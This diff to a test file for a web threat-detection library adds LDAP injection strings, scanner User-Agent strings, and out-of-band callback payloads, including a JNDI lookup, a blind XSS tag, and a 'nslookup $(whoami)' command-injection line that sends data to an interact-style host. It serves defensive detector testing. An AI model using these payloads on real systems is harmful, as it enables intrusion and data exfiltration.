@@ -13,6 +13,7 @@ import { detectLdap } from '../src/threats/detectors/ldap.js';
 import { detectXpath } from '../src/threats/detectors/xpath.js';
 import { detectPrototypePollution } from '../src/threats/detectors/proto.js';
 import { detectCrlf } from '../src/threats/detectors/crlf.js';
+import { detectScanner } from '../src/threats/detectors/scanner.js';
 import { assertCheap } from './threats-timing.js';
 
 interface Opts {
@@ -242,6 +243,11 @@ describe('detectLdap', () => {
     'admin*)((|userPassword=*)',
     '\\2a\\29\\28uid=\\2a',
     'value)(userAccountControl:1.2.840.113556.1.4.803:=2)',
+    // a balanced composite glued to the value before it, or holding a constant condition
+    '*(|(objectclass=*))',
+    'admin(&(uid=*))',
+    '(&(uid=admin)(!(&(1=0)(userPassword=q))))',
+    '(|(uid=admin)( 1 = 1 ))',
   ];
   for (const a of attacks) it(`finds ${a}`, () => assertBlocks(detectLdap, 'ldapi', a));
   const benign = [
@@ -256,6 +262,12 @@ describe('detectLdap', () => {
     'smile :)(yes)',
     'f(x) = (y)',
     '1) first 2) (second=x)',
+    '(|(cn=john)(mail=john@example.com))',
+    'Filter: (&(uid=x)(age>=18))',
+    'f(!(a=b))',
+    'if(!(x==y)) return;',
+    'while (!(line = read())) {}',
+    'tally (1=1) votes',
   ];
   for (const b of benign) it(`passes ${JSON.stringify(b).slice(0, 50)}`, () => assertPasses(detectLdap, b));
 });
@@ -399,12 +411,13 @@ describe('pathological inputs stay linear', () => {
     ['xpath', detectXpath],
     ['proto', detectPrototypePollution],
     ['crlf', detectCrlf],
+    ['scanner', detectScanner],
   ];
   const N = 100_000;
   const units = [
     'a', '${', '{', '{{a', '${{{a}}}#{<%[[@((', '${::-', '$', '(', ')', ')(', "'((((", "'||'", '\r\n', '\nA:', '__proto__',
     'constructor.', '/', '::', 'name(', "']", ')|', 'GET ', '&', '#set(', '/*', "'", '\\29', 'this.a', 'db.', 'a__', '$ne', '<%', '<#assign ',
-    '[[', '@(', '*)(', '${jndi:',
+    '[[', '@(', '*)(', '${jndi:', '(&(', 'a(|(b=', '(1=0)', '(|(1=1)',
   ];
   for (const [name, d] of detectors) {
     it(`${name}: 100 KB of trigger characters`, () => {
@@ -422,4 +435,40 @@ describe('pathological inputs stay linear', () => {
     const odd = ['', '\u0000', '\ud800', '${', '}', '{{', '<%', ')', '\\', '\\2', '$', '__proto__[', 'constructor', '\r', 'GET  HTTP/'];
     for (const [, d] of detectors) for (const s of odd) for (const isKey of [false, true]) d(s, s.toLowerCase(), ctx({ isKey }));
   });
+});
+
+describe('detectScanner', () => {
+  const ua = (_v: string): Opts => ({ location: 'header', name: 'user-agent' });
+  const agents = [
+    'sqlmap/1.7.4#stable (https://sqlmap.org)',
+    'Mozilla/5.0 (compatible; Nikto/2.5.0)',
+    'Nuclei - Open-source project (github.com/projectdiscovery/nuclei)',
+    'Fuzz Faster U Fool v2.0.0',
+    'Mozilla/5.0 [en] (X11, U; OpenVAS-VT 22.4.1)',
+    'mercuryboard_user_agent_sql_injection.nasl',
+    'Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)',
+  ];
+  for (const a of agents) it(`finds the tool in User-Agent ${a}`, () => assertBlocks(detectScanner, 'protocol', a, ua(a)));
+  it('reads tool names in User-Agent only', () => {
+    assertPasses(detectScanner, 'sqlmap/1.7.4#stable (https://sqlmap.org)', { location: 'body', name: '/comment' });
+    assertPasses(detectScanner, 'Nuclei', { location: 'header', name: 'x-product' });
+  });
+  const callbacks = [
+    'http://lmb1ikpej3yys0gqft8lxewm2d89w5qtgh840sp.burpcollaborator.net/a',
+    'root@w63gecoroprj5um8ypnd7r6in9t0hseg3.interact.sh',
+    '${jndi:ldap://${hostName}.w63gecoroprj5um8ypnd7r6in9t0hseg3.oast.me/a}',
+    '; nslookup $(whoami).c1a2b3.oast.fun',
+    '<img src=//x.bxss.me>',
+    'https://abc123.oastify.com:443/x',
+  ];
+  for (const c of callbacks) it(`finds the callback domain in ${c}`, () => assertBlocks(detectScanner, 'protocol', c));
+  const benign = [
+    ...BENIGN_COMMON,
+    'boast.fun and roast.me are not callback domains',
+    'https://interact.sh.example.com/docs',
+    'Mozilla/5.0 (Macintosh; Intel Mac OS X 14_0) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.0 Safari/605.1.15',
+    'curl/8.5.0',
+    'nucleic acid research',
+  ];
+  for (const b of benign) it(`passes ${JSON.stringify(b).slice(0, 50)}`, () => assertPasses(detectScanner, b, ua(b)));
 });
